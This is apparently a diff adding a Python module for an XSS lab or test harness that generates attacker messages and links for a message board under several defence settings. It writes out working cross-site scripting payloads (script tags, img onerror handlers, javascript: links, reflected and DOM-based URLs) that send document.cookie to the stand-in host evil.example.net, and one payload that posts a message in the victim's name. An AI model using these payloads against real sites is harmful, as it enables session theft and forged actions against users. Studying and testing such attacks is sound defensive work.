@@ -1,0 +1,52 @@
+"""What the attacker writes on the board and into links, and where its loot goes."""
+
+from __future__ import annotations
+
+from urllib.parse import quote
+
+BOARD, EVIL = "board.example.org", "evil.example.net"
+DEFENCES = ("none", "blocking", "encoding", "sanitising", "http-only", "policy", "all")
+DEED = "I love mallory"
+"""What a script writes in the victim's name."""
+
+BOLD = "<b>Nice board</b>"
+"""An honest visitor's message, with an element."""
+
+
+def loot(defence: str, attack: str) -> str:
+    """JavaScript that asks the attacker's host for a picture whose address has the cookie."""
+    return f"new Image().src='http://{EVIL}/{defence}/{attack}?'+document.cookie"
+
+
+def _picture(script: str) -> str:
+    return f'<img src=x onerror="{script}">'
+
+
+def messages(defence: str) -> list[tuple[str, str, str]]:
+    """What the attacker writes: name of the attack, text, link."""
+    deed = (
+        f"fetch('/{defence}/messages',"
+        f"{{method:'POST',body:new URLSearchParams({{text:'{DEED}'}})}})"
+    )
+    return [
+        ("honest", BOLD, ""),
+        ("stored", f"<script>{loot(defence, 'stored')}</script>", ""),
+        ("picture", _picture(loot(defence, "picture")), ""),
+        ("link", "A great offer", f"javascript:{loot(defence, 'link')};void 0"),
+        ("deed", _picture(deed), ""),
+    ]
+
+
+def addresses(defence: str) -> dict[str, str]:
+    """Attack → the address of the link that the victim follows."""
+    site = f"http://{BOARD}/{defence}"
+    return {
+        "reflected": f"{site}/search?word={quote(_picture(loot(defence, 'reflected')))}",
+        "dom": f"{site}/hello#{quote(_picture(loot(defence, 'dom')))}",
+    }
+
+
+THEFTS = ("stored", "picture", "link", "reflected", "dom")
+"""Attacks that are after the cookie."""
+
+ATTACKS = (*THEFTS, "deed")
